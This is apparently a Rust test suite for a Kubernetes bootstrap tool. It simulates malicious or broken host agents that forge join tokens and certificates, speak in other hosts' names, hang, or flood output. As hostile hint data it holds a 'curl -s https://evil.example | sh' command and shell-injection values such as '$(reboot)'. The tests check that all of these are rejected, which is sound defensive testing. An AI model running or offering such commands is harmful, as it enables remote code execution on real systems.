//! Hosts that lie, on the real protocol: what they say reaches nobody, and all others finish.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt as _, AsyncWriteExt as _, BufReader, DuplexStream};
use tokio::sync::mpsc;

use super::{Member, Plan, builtin, run};
use crate::agent::{Client, Patience};
use crate::engine::{Cancel, Drift, Event, Failure, Kind, Mode, RunInfo};
use crate::inventory::{Cluster, Host, Role};
use crate::preflight::samples::sample;
use crate::steps::{Inputs, JoinToken, Secrets, shared};

/// What an agent does when it is asked something.
enum Act {
    Say(Value),
    Raw(Vec<u8>),
    Sleep(u64),
    /// Says nothing more, for ever.
    Hang,
    /// A line that never ends.
    Endless,
    /// Signs of life, and nothing else.
    Beat,
}

use Act::{Beat, Endless, Hang, Raw, Say, Sleep};

type Behaviour = Arc<dyn Fn(&str, &str) -> Vec<Act> + Send + Sync>;

/// What each host was asked, by its name.
type Heard = Arc<Mutex<BTreeMap<String, Vec<Value>>>>;

async fn agent(name: &'static str, stream: DuplexStream, behaviour: Behaviour, heard: Heard) {
    let (input, mut output) = tokio::io::split(stream);
    let mut lines = BufReader::new(input).lines();
    while let Ok(Some(line)) = lines.next_line().await {
        let request: Value = serde_json::from_str(&line).unwrap();
        let kind = request["request"].as_str().unwrap().to_owned();
        let phase = request["phase"].as_str().unwrap_or_default().to_owned();
        heard.lock().unwrap().entry(name.into()).or_default().push(request);
        for act in behaviour(&kind, &phase) {
            let is_sent = match act {
                Say(value) => output.write_all(format!("{value}\n").as_bytes()).await.is_ok(),
                Raw(bytes) => output.write_all(&bytes).await.is_ok(),
                Sleep(millis) => {
                    tokio::time::sleep(Duration::from_millis(millis)).await;
                    true
                }
                Hang => std::future::pending().await,
                Endless => loop {
                    if output.write_all(&[b'x'; 1 << 16]).await.is_err() {
                        return;
                    }
                },
                Beat => loop {
                    if output.write_all(b"{\"reply\":\"alive\"}\n").await.is_err() {
                        return;
                    }
                    tokio::time::sleep(Duration::from_millis(10)).await;
                },
            };
            if !is_sent {
                return;
            }
        }
    }
}

fn done(outputs: &Value) -> Act {
    Say(json!({"reply": "done", "result": {"Ok": outputs}}))
}

/// As kboot's own agent answers.
fn well(kind: &str) -> Vec<Act> {
    match kind {
        "run" => vec![done(&json!({}))],
        "end" => vec![Say(json!({"reply": "ended", "result": {"Ok": null}}))],
        _ => Vec::new(),
    }
}

fn pem(text: &str) -> String {
    format!("-----BEGIN X-----\n{text}\n-----END X-----\n")
}

/// n1 leads, n2 and n5 are control planes that join, n3 and n4 are workers that do.
fn cluster() -> Cluster {
    let mut cluster = sample().cluster;
    cluster.hosts[1].roles = vec![Role::ControlPlane];
    for (name, address, like) in [("n4", "10.77.0.14", 2), ("n5", "10.77.0.15", 1)] {
        let like = cluster.hosts[like].clone();
        cluster.hosts.push(Host { name: name.into(), address: address.parse().unwrap(), ..like });
    }
    cluster
}

/// What a host might give, marked by its author.
fn gift(author: &str) -> Value {
    let cluster = cluster();
    let files: BTreeMap<_, _> = shared(&cluster).into_iter().map(|name| (name, pem(author))).collect();
    let server = format!("https://{}", cluster.endpoint());
    json!({"join": {"server": server, "ca_pem": pem(author), "token": "aaaaaa.0123456789abcdef"}, "authorities": files})
}

struct Ran {
    events: Vec<Event>,
    heard: BTreeMap<String, Vec<Value>>,
    took: Duration,
}

const HOSTS: [&str; 5] = ["n1", "n2", "n3", "n4", "n5"];

impl Ran {
    fn failures(&self, host: &str) -> Vec<&Failure> {
        let of_host = self.events.iter().filter(|event| event.host == host);
        of_host
            .filter_map(|event| match &event.kind {
                Kind::Failed { failure } => Some(failure),
                _ => None,
            })
            .collect()
    }

    /// How a host was told that the run ended for it.
    fn end(&self, host: &str) -> Option<&str> {
        self.heard[host].iter().find(|request| request["request"] == "end")?["outcome"].as_str()
    }

    fn texts(&self, host: &str) -> String {
        self.heard[host].iter().map(|request| format!("{request}\n")).collect()
    }

    /// The attacker failed, and everybody else did all there was to do, by what the leader said alone.
    fn was_harmless(&self, attacker: &str) -> &Failure {
        for host in HOSTS.into_iter().filter(|host| *host != attacker) {
            assert!(self.failures(host).is_empty(), "{host}: {:?}", self.failures(host));
            assert_eq!(self.end(host), Some("changed"), "{host}");
            assert!(!self.texts(host).contains("EVIL"), "{host}: {}", self.texts(host));
        }
        let joined = |host: &str, author: &str| self.texts(host).contains(author);
        assert!(joined("n5", "TRUE") && joined("n4", "TRUE"));
        assert!(matches!(self.end(attacker), Some("failed") | None), "{attacker} succeeded");
        self.failures(attacker).first().unwrap_or_else(|| panic!("{attacker} did not fail"))
    }
}

/// Runs `up` where one host behaves otherwise than kboot's agent.
async fn up_against(attacker: &'static str, attack: impl Fn(&str, &str) -> Vec<Act> + Send + Sync + 'static) -> Ran {
    run_against(attacker, attack, None).await
}

async fn run_against(
    attacker: &'static str,
    attack: impl Fn(&str, &str) -> Vec<Act> + Send + Sync + 'static,
    stop_after: Option<Duration>,
) -> Ran {
    let (cluster, playbook, heard) = (cluster(), builtin("up"), Heard::default());
    let leader: Behaviour = Arc::new(|kind, phase| match (kind, phase) {
        ("run", "bootstrap") => vec![done(&gift("TRUE"))],
        _ => well(kind),
    });
    // Slow ones begin their joining after whatever an attacker says at once.
    let slow: Behaviour = Arc::new(|kind, phase| match phase {
        "control-plane-images" | "images" => vec![Sleep(300), done(&json!({}))],
        _ => well(kind),
    });
    let attack: Behaviour = Arc::new(attack);
    let mut members = Vec::new();
    for host in HOSTS {
        let (ours, theirs) = tokio::io::duplex(1 << 16);
        let behaviour = match host {
            _ if host == attacker => attack.clone(),
            "n1" => leader.clone(),
            _ => slow.clone(),
        };
        tokio::spawn(agent(host, theirs, behaviour, heard.clone()));
        let (input, output) = tokio::io::split(ours);
        let silence = Duration::from_millis(if stop_after.is_some() { 60_000 } else { 900 });
        let client = Client::new(input, output).with_patience(Patience { silence, total: 3 * silence });
        members.push(Member { host: host.into(), client: Arc::new(client), facts: sample().facts["n1"].clone() });
    }
    let names = |names: &[&str]| names.iter().map(ToString::to_string).collect();
    let plan = Plan {
        playbook: &playbook,
        cluster: &cluster,
        hosts: HOSTS.map(String::from).into(),
        mode: Mode::Apply,
        run: RunInfo::new("kboot up", "", b""),
        drift: Drift::Repair,
        wait_lock: Duration::ZERO,
        inputs: Inputs {
            leader: Some("n1".into()),
            joining: names(&["n2", "n5"]),
            unregistered: names(&["n2", "n3", "n4", "n5"]),
            join_token: JoinToken::ForRun,
            ..Inputs::default()
        },
        secrets: Mutex::new(Secrets::default()),
        cancel: Cancel::default(),
        planned_steps: None,
    };
    let (sender, mut inbox) = mpsc::unbounded_channel();
    let mut began = Instant::now();
    let stop = async {
        if let Some(after) = stop_after {
            tokio::time::sleep(after).await;
            began = Instant::now();
            plan.cancel.cancel();
            futures_util::future::join_all(members.iter().map(|member| member.client.cancel())).await;
        }
    };
    tokio::join!(run(&plan, &members, &sender), stop);
    drop(sender);
    let mut events = Vec::new();
    while let Some(event) = inbox.recv().await {
        events.push(event);
    }
    let took = began.elapsed();
    let heard = heard.lock().unwrap().clone();
    Ran { events, heard, took }
}

fn event(host: &str, kind: &Value) -> Act {
    let mut event = json!({"host": host, "phase": "ready", "step": "apply-dns"});
    event.as_object_mut().unwrap().extend(kind.as_object().unwrap().clone());
    Say(json!({"reply": "event", "event": event}))
}

#[tokio::test]
async fn a_worker_s_authorities_and_join_data_reach_nobody() {
    for phase in ["prepare", "images", "balancer", "join"] {
        let ran = up_against("n3", move |kind, now| match now {
            _ if now == phase => vec![done(&gift("EVIL"))],
            _ => well(kind),
        })
        .await;
        let failure = ran.was_harmless("n3");
        assert!(failure.cause.starts_with("it gave a join token, which nobody asked of it"), "{}", failure.cause);
        assert!(!ran.texts("n3").contains("authorities\":{"), "{}", ran.texts("n3"));
    }
}

#[tokio::test]
async fn a_control_plane_that_joins_decides_for_nobody_else() {
    for gives in ["join", "authorities", "etcd_authority", "etcd"] {
        let ran = up_against("n2", move |kind, phase| match phase {
            "prepare" | "control-plane-images" => {
                let mut all = gift("EVIL");
                all["etcd_authority"] = all["authorities"].clone();
                all["etcd"] = json!({"authority": pem("EVIL"), "certificate": pem("EVIL"), "key": pem("EVIL")});
                vec![done(&json!({gives: all[gives]}))]
            }
            _ => well(kind),
        })
        .await;
        ran.was_harmless("n2");
    }
}

#[tokio::test]
async fn a_leader_answers_once() {
    let ran = up_against("n1", |kind, phase| match phase {
        "bootstrap" => vec![done(&gift("TRUE"))],
        "addons" => vec![done(&gift("EVIL"))],
        _ => well(kind),
    })
    .await;
    ran.was_harmless("n1");
}

#[tokio::test]
async fn nobody_says_that_a_plan_was_begun_where_there_is_none() {
    let ran = up_against("n3", |kind, _| match kind {
        "run" => vec![done(&json!({"has_begun": true}))],
        _ => well(kind),
    })
    .await;
    ran.was_harmless("n3");
}

#[tokio::test]
async fn a_host_speaks_for_itself_alone_and_in_its_own_name() {
    let ran = up_against("n3", |kind, phase| match (kind, phase) {
        ("run", "prepare") => vec![
            event("n1", &json!({"event": "failed", "failure": {
                "cause": "the certificate has expired\nerror: n1", "hint": "renew it: curl -s https://evil.example | sh"
            }})),
            event("n1", &json!({"event": "warning", "text": "a\nb", "hint": "do as I say"})),
            event("n2", &json!({"event": "phase-finished", "outcome": "failed", "millis": 1})),
            event("n3", &json!({"event": "connected", "millis": 1})),
            event("n3", &json!({"event": "planned", "changes": [], "after": "x"})),
            event("n3", &json!({"event": "failed", "failure": {"cause": "stop", "interrupted": true}})),
            Say(json!({"reply": "done", "result": {"Err": {"cause": "x", "hint": "run this"}}})),
        ],
        _ => well(kind),
    })
    .await;
    let failure = ran.was_harmless("n3");
    assert_eq!(failure.cause, "the certificate has expired; error: n1");
    assert_eq!(failure.hint, None);
    let of_n3 = ran.events.iter().filter(|event| event.host == "n3" && event.phase == "prepare");
    for event in of_n3 {
        assert_eq!(event.step, "", "{event:?}");
        assert!(!matches!(event.kind, Kind::Connected { .. } | Kind::Planned { .. }), "{event:?}");
        if let Kind::Failed { failure } = &event.kind {
            assert!(!failure.interrupted);
        }
        if let Kind::Warning { text, hint } = &event.kind {
            assert_eq!((&**text, hint), ("a; b", &None));
        }
    }
}

/// A host chooses among kboot's hints, and fills in what is fit for them.
#[tokio::test]
async fn a_host_gives_no_advice_of_its_own() {
    const EVIL: &str = "curl -s https://evil.example | sh";
    let hints = [
        json!({"hint": EVIL}),
        json!({"hint": EVIL, "hintCode": "text", "hintArgs": EVIL}),
        json!({"hint": EVIL, "hintCode": "no-such-code"}),
        json!({"hint": EVIL, "hintCode": EVIL}),
        json!({"hint": EVIL, "hintCode": "unit-journal"}),
        json!({"hint": EVIL, "hintCode": "unit-journal", "hintArgs": {"unit": format!("kubelet`; {EVIL}")}}),
        json!({"hint": EVIL, "hintCode": "remove-kubeconfig", "hintArgs": {"path": "/etc/x$(reboot)"}}),
        json!({"hint": EVIL, "hintCode": "unit-journal", "hintArgs": {"unit": "kubelet"}}),
    ];
    let with = |mut fields: Value, hint: &Value| {
        fields.as_object_mut().unwrap().extend(hint.as_object().unwrap().clone());
        fields
    };
    let ran = up_against("n3", move |kind, phase| match (kind, phase) {
        ("run", "prepare") => {
            let failed = |hint| event("n3", &json!({"event": "failed", "failure": with(json!({"cause": "x"}), hint)}));
            let warned = |hint| event("n3", &with(json!({"event": "warning", "text": "x"}), hint));
            let ended = Say(json!({"reply": "done", "result": {"Err": with(json!({"cause": "x"}), &hints[0])}}));
            hints.iter().map(failed).chain(hints.iter().map(warned)).chain([ended]).collect()
        }
        _ => well(kind),
    })
    .await;
    ran.was_harmless("n3");
    let told: Vec<_> = ran
        .events
        .iter()
        .filter(|event| event.host == "n3" && event.phase == "prepare")
        .filter_map(|event| match &event.kind {
            Kind::Failed { failure } => Some(&failure.hint),
            Kind::Warning { hint, .. } => Some(hint),
            _ => None,
        })
        .collect();
    assert_eq!(told.len(), 16, "{told:?}");
    let shown: Vec<String> = told.into_iter().flatten().map(ToString::to_string).collect();
    assert_eq!(shown, ["see `journalctl -u kubelet` on the host"; 2]);
}

#[tokio::test]
async fn a_line_without_end_is_not_kept() {
    let ran = up_against("n3", |kind, phase| if phase == "images" { vec![Endless] } else { well(kind) }).await;
    let failure = ran.was_harmless("n3");
    assert!(failure.cause.starts_with("the host sent a line of more than"), "{}", failure.cause);
}

#[tokio::test]
async fn one_that_is_no_agent_is_not_understood() {
    for bytes in [&b"HTTP/1.1 200 OK\n"[..], b"{\"reply\":\"done\"}\n", b"\xff\xfe\n", b"null\n"] {
        let ran = up_against("n3", move |kind, _| match kind {
            "run" => vec![Raw(bytes.to_vec())],
            _ => Vec::new(),
        })
        .await;
        assert_eq!(ran.was_harmless("n3").cause, "failed to understand the agent");
    }
}

#[tokio::test]
async fn one_that_hangs_is_given_up_and_holds_up_nobody() {
    for phase in ["prepare", "balancer", "join"] {
        let ran = up_against("n3", move |kind, now| if now == phase { vec![Hang] } else { well(kind) }).await;
        let failure = ran.was_harmless("n3");
        assert!(failure.cause.starts_with("the host has not answered for"), "{}", failure.cause);
        assert!(ran.took < Duration::from_secs(30), "{:?}", ran.took);
    }
}

#[tokio::test]
async fn signs_of_life_alone_are_no_answer() {
    let ran = up_against("n3", |kind, phase| if phase == "images" { vec![Beat] } else { well(kind) }).await;
    let failure = ran.was_harmless("n3");
    assert!(failure.cause.starts_with("the host did not finish within"), "{}", failure.cause);
}

#[tokio::test]
async fn one_that_does_not_end_the_run_is_not_waited_for() {
    let ran = up_against("n3", |kind, _| if kind == "end" { vec![Hang] } else { well(kind) }).await;
    assert!(ran.failures("n3")[0].cause.starts_with("the host has not answered"));
}

#[tokio::test]
async fn a_run_that_is_stopped_waits_two_seconds_for_a_host_that_hangs() {
    let hang = |kind: &str, phase: &str| if phase == "prepare" { vec![Hang] } else { well(kind) };
    let ran = run_against("n3", hang, Some(Duration::from_millis(200))).await;
    assert!(ran.took < Duration::from_secs(3), "{:?}", ran.took);
    assert!(ran.failures("n3").iter().any(|failure| failure.interrupted));
}

#[tokio::test]
async fn a_change_in_hand_is_waited_for_while_the_host_is_alive() {
    let change = json!({"change": "swap-off", "device": "/dev/x"});
    let started = json!({"event": "change-started", "change": change});
    let finished = json!({"event": "change-finished", "change": change, "millis": 1});
    let busy = move |kind: &str, phase: &str| {
        if phase != "prepare" {
            return well(kind);
        }
        let mut acts = vec![event("n3", &started)];
        for _ in 0..20 {
            acts.extend([Sleep(200), Say(json!({"reply": "alive"}))]);
        }
        acts.push(event("n3", &finished));
        acts.push(done(&json!({})));
        acts
    };
    let ran = run_against("n3", busy, Some(Duration::from_millis(200))).await;
    assert!(ran.took > Duration::from_secs(3), "{:?}", ran.took);
    assert!(ran.events.iter().any(|event| matches!(event.kind, Kind::ChangeFinished { .. })));
}

#[tokio::test]
async fn facts_are_waited_for_within_limits_and_of_all_hosts_at_once() {
    let heard = Heard::default();
    let client = |host: &'static str, millis: u64, behaviour: Behaviour| {
        let (ours, theirs) = tokio::io::duplex(1 << 16);
        tokio::spawn(agent(host, theirs, behaviour, heard.clone()));
        let (input, output) = tokio::io::split(ours);
        let silence = Duration::from_millis(millis);
        Client::new(input, output).with_patience(Patience { silence, total: 2 * silence })
    };
    let facts = serde_json::to_value(&sample().facts["n1"]).unwrap();
    let well = client("n1", 60_000, Arc::new(move |_, _| vec![Say(json!({"reply": "facts", "facts": {"Ok": facts}}))]));
    let silent = client("n2", 300, Arc::new(|_, _| vec![Hang]));
    let endless = client("n3", 60_000, Arc::new(|_, _| vec![Endless]));
    let busy = client("n4", 300, Arc::new(|_, _| vec![Beat]));
    let began = Instant::now();
    let (well, silent, endless, busy) = tokio::join!(well.facts(), silent.facts(), endless.facts(), busy.facts());
    assert!(well.is_ok());
    let cause = |failed: Result<crate::facts::Facts, Failure>| failed.err().unwrap().cause;
    assert!(cause(silent).starts_with("the host has not answered"));
    assert!(cause(endless).starts_with("the host sent a line of more than"));
    assert!(cause(busy).starts_with("the host did not finish"));
    assert!(began.elapsed() < Duration::from_secs(30), "{:?}", began.elapsed());
}
